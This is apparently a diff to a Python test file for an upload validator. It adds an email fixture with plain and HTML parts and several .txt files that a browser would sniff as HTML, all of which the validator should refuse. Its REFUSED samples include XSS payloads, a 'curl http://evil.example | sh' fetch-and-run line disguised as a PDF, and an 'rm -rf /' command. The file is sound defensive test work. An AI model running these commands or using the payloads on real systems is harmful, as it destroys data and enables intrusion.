@@ -58,6 +58,21 @@ EML = (
     b"\r\n"
     b"The limited release of model A may proceed.\r\n"
 )
+# As agencies send them: a plain part and an HTML part.
+EML_WITH_HTML = (
+    b"From: Office of the Secretary <secretary@doc.example>\r\n"
+    b"To: compliance@lab.example\r\n"
+    b"Date: Fri, 26 Jun 2026 17:21:00 -0400\r\n"
+    b"Subject: Directive: foreign access\r\n"
+    b"MIME-Version: 1.0\r\n"
+    b'Content-Type: multipart/alternative; boundary="part"\r\n'
+    b"\r\n"
+    b"--part\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
+    b"Restrict foreign access to model A.\r\n"
+    b"--part\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
+    b"<html><body><p>Restrict foreign access to <b>model A</b>.</p></body></html>\r\n"
+    b"--part--\r\n"
+)
 
 ALLOWED = {
     "letter.pdf": (lambda: pdf_letter(["June 26 letter"]), "application/pdf"),
@@ -65,6 +80,8 @@ ALLOWED = {
     "photo.jpg": (jpeg_bytes, "image/jpeg"),
     "note.txt": (lambda: "A plain letter, in UTF-8: café.\n".encode(), "text/plain"),
     "mail.eml": (lambda: EML, "message/rfc822"),
+    "directive.eml": (lambda: EML_WITH_HTML, "message/rfc822"),
+    "markup.txt": (lambda: b"The letter asks us to use <p> tags in replies.\n", "text/plain"),
     "memo.docx": (
         docx_bytes,
         "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
@@ -73,6 +90,11 @@ ALLOWED = {
 
 REFUSED = {
     "page.html": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
+    # Text a browser would sniff as HTML (WHATWG MIME Sniffing's signatures).
+    "fragment.txt": b'\n  <div onclick="alert(1)">Approved</div>',
+    "table.txt": b"<TABLE><tr><td onmouseover=alert(1)>x</td></tr></TABLE>",
+    "comment.txt": b"<!-- x -->\n<b>bold</b>",
+    "heading.txt": b"<h1>Notice</h1><p>x</p>",
     "logo.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
     "letter.pdf": b"#!/bin/sh\ncurl http://evil.example | sh\n",
     "report.pdf": b"import os\nos.system('rm -rf /')\n",
